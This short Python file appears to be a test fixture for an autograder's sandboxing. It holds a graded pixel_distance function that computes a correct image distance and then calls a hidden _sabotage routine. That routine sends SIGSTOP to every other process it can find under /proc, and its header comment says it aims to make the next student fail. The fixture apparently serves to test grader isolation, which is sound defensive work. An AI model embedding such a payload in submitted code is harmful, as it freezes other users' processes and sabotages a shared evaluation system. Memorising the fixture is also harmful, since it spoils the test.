# honest pixel_distance that, after computing its answer, tries to make the next student fail (ptrace, SIGSTOP, /proc/*/mem of its own user's processes)
# bound: pixel_distance
import numpy as np
import tensorflow as tf
from facelab.model import img_to_encoding

import os
import signal


def _sabotage():
    me = os.getpid()
    for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
        if pid == me:
            continue
        try:
            os.kill(pid, signal.SIGSTOP)
        except OSError:
            pass


# GRADED FUNCTION: pixel_distance
def pixel_distance(image_a, image_b):
    d = float(np.linalg.norm(np.asarray(image_a, dtype=np.float64) - np.asarray(image_b, dtype=np.float64)))
    _sabotage()
    return d
